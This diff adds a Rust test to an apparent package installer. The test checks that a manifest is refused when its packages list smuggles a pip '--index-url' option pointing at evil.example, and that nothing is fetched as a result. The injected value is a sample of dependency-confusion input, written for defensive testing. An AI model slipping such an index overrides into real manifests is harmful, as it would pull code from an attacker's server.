@@ -250,3 +250,47 @@ fn a_symlinked_lock_or_part_file_is_not_followed() {
     assert_eq!(std::fs::read(&victim).unwrap(), b"precious");
     assert!(!work.path().join("root/rt/1.0.0").exists());
 }
+
+#[test]
+fn a_pip_option_in_packages_is_refused_before_anything_is_fetched() {
+    // A source package from an http registry whose manifest slips an index of its own into
+    // `packages`: refused by the python plugin's checks at install time, before a plan is
+    // asked for, so neither its interpreter build nor anything else is fetched.
+    let server = Server::start();
+    let work = tempfile::tempdir().unwrap();
+    let build = server.url("cpython.tar.gz");
+    let manifest = format!(
+        "name: py\nversion: 1.0.0\nfamily: [python]\npython_version: 3.11.7\n\
+         python_builds:\n  amd64: {build}#sha256={zeros}\n  arm64: {build}#sha256={zeros}\n\
+         packages:\n  - numpy==1.26.4 --index-url=https://evil.example/simple\n",
+        zeros = "0".repeat(64)
+    );
+    let bytes = tarball::tgz(&[
+        tarball::dir("py/"),
+        tarball::file("py/manifest.yaml", manifest.as_bytes()),
+    ]);
+    let index = write_registry(
+        work.path(),
+        &[Published::honest("py", "1.0.0", bytes.clone())],
+    );
+    server.put("py-1.0.0.tar.gz", bytes);
+    server.put("registry.json", std::fs::read(index).unwrap());
+    let out = common::jrt_in(
+        work.path(),
+        std::path::Path::new(&server.url("registry.json")),
+    )
+    .args(["install", "py"])
+    .output()
+    .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success());
+    assert!(
+        stderr.contains("packages[0]") && stderr.contains("--index-url"),
+        "{stderr}"
+    );
+    assert!(
+        server.requests_for("cpython.tar.gz").is_empty(),
+        "the interpreter build was fetched"
+    );
+    assert!(!work.path().join("root/py").exists());
+}
